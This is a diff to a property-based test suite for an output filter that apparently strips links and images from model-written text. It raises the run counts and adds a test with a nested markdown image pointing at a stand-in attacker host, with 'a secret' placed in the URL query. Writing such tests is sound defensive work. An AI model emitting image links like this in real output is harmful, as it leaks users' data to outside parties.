@@ -36,13 +36,17 @@ describe('what a model writes', () => {
     fc.assert(fc.property(pieces, (parts) => {
       const once = filterOutput(parts.join(''), ALLOWED);
       expect(filterOutput(once, ALLOWED)).toBe(once);
-    }), { numRuns: 500 });
+    }), { numRuns: 2_000 });
+  });
+
+  it('leaves nothing of a picture within the words of a picture', () => {
+    expect(leads(filterOutput('! [ ![chart](https://evil-collector.com/c.png?d=a%20secret)', ALLOWED))).toBe(false);
   });
 
   it('leads nowhere, whatever it is put together from', () => {
     fc.assert(fc.property(pieces, (parts) => {
       expect(leads(filterOutput(parts.join(' '), ALLOWED))).toBe(false);
-    }), { numRuns: 500 });
+    }), { numRuns: 2_000 });
   });
 
   it('is shown piece by piece as it is shown in the whole', () => {
